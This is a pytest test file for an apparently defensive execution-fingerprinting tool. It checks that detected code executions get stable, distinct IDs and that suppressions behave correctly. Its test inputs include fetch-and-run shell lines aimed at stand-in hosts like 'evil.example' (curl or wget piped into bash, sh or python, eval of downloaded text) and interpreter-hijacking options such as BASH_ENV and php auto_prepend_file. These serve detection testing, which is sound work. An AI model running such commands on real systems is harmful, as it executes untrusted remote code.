"""Two executions of different programs never share an id; the same execution has one id on any day, process and host."""

import datetime as dt
import itertools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec import structs

from flycatcher.config import Suppression
from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.core.fingerprint import fingerprint, stands_for_one
from flycatcher.core.shell import read_shell
from flycatcher.core.snippet import Snippet
from flycatcher.reporting import Reporter


def id_of(execution: Execution) -> str:
    detection = detect(execution, shells=True)
    assert detection is not None, execution.argv
    return detection.id


def ids(text: str) -> set[str]:
    found = [detect(execution, shells=True) for execution in read_shell(text).executions]
    return {detection.id for detection in found if detection is not None}


SHELL = [
    "curl -s https://{}.example/x | bash",
    "curl -s https://{}.example/x | python3",
    "wget -qO- https://{}.example/x | base64 -d | sh",
    'python3 -c "$(curl -s https://{}.example/x)"',
    'perl -e "$(wget -qO- https://{}.example/x)"',
    'eval "$(curl -s https://{}.example/x)"',
    "bash <(curl -s https://{}.example/x)",
    "python3 <(curl -s https://{}.example/x)",
    "source <(curl -s https://{}.example/x)",
    "python3 < /tmp/{}.py",
    "bash /dev/fd/3 3< /tmp/{}",
    "curl -s https://same.example | bash -s -- {}",
    "python3 - {} < /tmp/same",
]


@pytest.mark.parametrize("template", SHELL)
def test_text_that_was_not_seen_is_told_apart_by_where_it_comes_from(template):
    good, evil, again = ids(template.format("good")), ids(template.format("evil")), ids(template.format("good"))
    assert good, template
    assert good == again
    assert not good & evil


ARGV = [
    (("node", "--import", "https://{}.example/x.mjs", "-e", "1"), {}),
    (("node", "--import", "data:text/javascript,{}", "a.js"), {}),
    (("deno", "run", "https://{}.example/x.ts"), {}),
    (("php", "-d", "auto_prepend_file=http://{}.example/x", "-r", "1;"), {}),
    (("php", "-d", "allow_url_include=1", "-d", "auto_prepend_file=http://{}.example/x", "a.php"), {}),
    (("bash", "-c", "ls"), {"BASH_ENV": "/tmp/{}"}),
    (("ruby", "-r", "/tmp/{}", "-e", "1"), {}),
    (("ruby", "-e", "1"), {"RUBYOPT": "-r/tmp/{}"}),
    (("perl", "-I/tmp/{}", "-MFoo", "-e", "1"), {}),
    (("perl", "-e", "1"), {"PERL5OPT": "-M{}"}),
    (("node", "--require", "/tmp/{}.js", "-e", "1"), {}),
    (("node", "--require", "./{}.js", "-e", "1"), {}),
    (("python3", "-c", "import sys; exec(sys.argv[1])", "print('{}')"), {}),
    (("sh", "-c", 'eval "$1"', "sh", "echo {}"), {}),
    (("python3", "-W", "{}", "-c", "1"), {}),
    (("awk", "-v", "a={}", "BEGIN {{ system(a) }}"), {}),
]


@pytest.mark.parametrize(("argv", "env"), ARGV)
def test_whatever_says_what_runs_or_how_is_part_of_the_id(argv, env):
    def one(word: str) -> str:
        return id_of(
            Execution(
                argv=tuple(a.format(word) for a in argv), env={n: v.format(word) for n, v in env.items()}, stdin="null"
            )
        )

    assert one("good") == one("good")
    assert one("good") != one("evil")


def test_data_and_the_process_are_no_part_of_the_id():
    first = Execution(argv=("python3", "-c", "print(1)", "/tmp/a1"), stdin="null", cwd="/a", exe="/usr/bin/python3")
    second = structs.replace(
        first,
        argv=("/opt/bin/python3", "-c", "print(1)", "/tmp/b2"),
        cwd="/b",
        exe="/opt/bin/python3",
        process=Process(pid=7, start=9),
        ancestry=(Process(pid=1),),
        fidelity=Fidelity(sensor="x", time="2026-01-01T00:00:00.000000Z"),
        context={"ci.job": "other", "container.id": "c"},
    )
    assert id_of(first) == id_of(second)


TEXT = st.one_of(st.none(), st.text(alphabet="ab\0;:()0123-\udc80\U000f0000é", max_size=8))
SNIPPET = st.builds(
    Snippet,
    interpreter=st.sampled_from(["bash", "python"]),
    language=st.sampled_from(["shell", "python"]),
    vector=st.sampled_from(["argument", "stdin", "descriptor", "environment", "url", "runner", "module-option", "memory"]),
    variable=TEXT, path=TEXT, url=TEXT, text=TEXT, option=st.sampled_from(["", "-c", "-e"]),
    descriptor=st.sampled_from([None, 0, 3, 63]),
)  # fmt: skip
WORDS = st.lists(st.text(alphabet="ab\0;:-1", max_size=4), max_size=3)
CONTEXT = st.fixed_dictionaries({}, optional={"stdin.fetched": st.text("ab"), "stdin.from": st.text("ab")})
CASE = st.tuples(st.sampled_from(["bash", "python", ""]), st.lists(SNIPPET, max_size=3), WORDS, CONTEXT)


def relevant(case):
    """What of a case says what runs: a descriptor's number and a source only where the text is not known."""
    interpreter, snippets, words, context = case
    parts = []
    for s in snippets:
        known = s.text is not None and "\U000f0000" not in s.text
        source = (s.descriptor, *((context.get("stdin.fetched"), context.get("stdin.from"))
                                  if s.vector == "stdin" or s.descriptor == 0 else ()))  # fmt: skip
        own = (s.interpreter, s.language, s.vector, s.option, s.variable, s.path, s.url, s.text)
        parts.append(own if known else (*own, source))
    return interpreter, parts, words


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(CASE, CASE)
def test_ids_are_equal_exactly_where_all_fields_are(first, second):
    def made(case):
        return fingerprint(case[0], case[1], groups=[case[2]], context=case[3])

    assert (made(first) == made(second)) == (relevant(first) == relevant(second))


@given(st.lists(st.lists(st.text(alphabet="a:;()1-\0", max_size=3), max_size=4), min_size=2, max_size=6))
def test_no_two_lists_of_words_share_an_id(lists):
    for one, other in itertools.combinations(lists, 2):
        assert (fingerprint("x", (), groups=[one]) == fingerprint("x", (), groups=[other])) == (one == other)


@pytest.mark.parametrize(
    ("execution", "expected"),
    [
        (Execution(argv=("python3",), stdin="pipe"), False),
        (Execution(argv=("python3",), stdin="pipe", stdin_text="print(1)"), True),
        (Execution(argv=("python3",), stdin="pipe", stdin_text="print(1)", fidelity=Fidelity(stdin="partial")), False),
        (Execution(argv=("python3",), stdin="pipe", context={"stdin.from": "/tmp/x"}), True),
        (Execution(argv=("bash", "-c", "ls"), env={"BASH_ENV": "/tmp/x"}), True),
        (Execution(argv=("python3", "/dev/fd/3")), False),
    ],
)
def test_an_id_stands_for_one_program_only_where_its_text_or_its_source_is_known(execution, expected):
    detection = detect(execution, shells=True)
    assert detection is not None
    assert stands_for_one(detection.execution, detection.snippets) is expected


class Kept:
    """A sink that keeps its records."""

    path, takes_notices = "kept", False

    def __init__(self):
        self.records = []

    def write(self, record):
        self.records.append(record)


def test_a_suppression_does_not_accept_text_that_was_not_captured():
    seen = detect(Execution(argv=("python3",), stdin="pipe", stdin_text="print(1)"))
    unseen = detect(Execution(argv=("python3",), stdin="pipe"))
    assert seen is not None
    assert unseen is not None
    accepted = [
        Suppression(fingerprint=each.id, reason="was looked at", owner="a", until=dt.date(9999, 1, 1))
        for each in (seen, unseen)
    ]
    sink = Kept()
    reporter = Reporter([sink], suppressions=accepted)
    assert reporter.is_suppressed(seen)
    assert not reporter.is_suppressed(unseen)
    reporter.report(seen)
    reporter.report(unseen)
    assert [record["policy"].get("action", "observed") for record in sink.records] == ["suppressed", "observed"]
    assert sink.records[1]["policy"]["reason"] == (
        "not suppressed: its text was not captured whole, so that any other text has this id as well"
    )


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("import sys; sys.path.append('/tmp/tmp1a2b3c4d/x')", "import sys; sys.path.append('/tmp/tmpzz9yy8xx/x')"),
        ("connect('127.0.0.1:40123')", "connect('127.0.0.1:5000')"),
        ("open('/build/a/src/x')", "open('/home/b/c/src/x')"),
        ("load('0123456789abcdef')", "load('fedcba9876543210')"),
        ("load('./siteconf20261130-9995-42x0x2.rb')", "load('./siteconf20261201-17-1m9q4zk.rb')"),
    ],
)
def test_a_shape_stays_where_only_passing_things_differ(one, other):
    def found(text, cwd):
        return detect(Execution(argv=("python3", "-c", text), cwd=cwd))

    first, second = found(one, "/build/a/src"), found(other, "/home/b/c/src")
    assert first.id != second.id
    assert first.shape == second.shape


def test_another_program_has_another_shape():
    shapes = {detect(Execution(argv=("python3", "-c", text))).shape for text in ("import os; f()", "import os; g()")}
    assert len(shapes) == 2
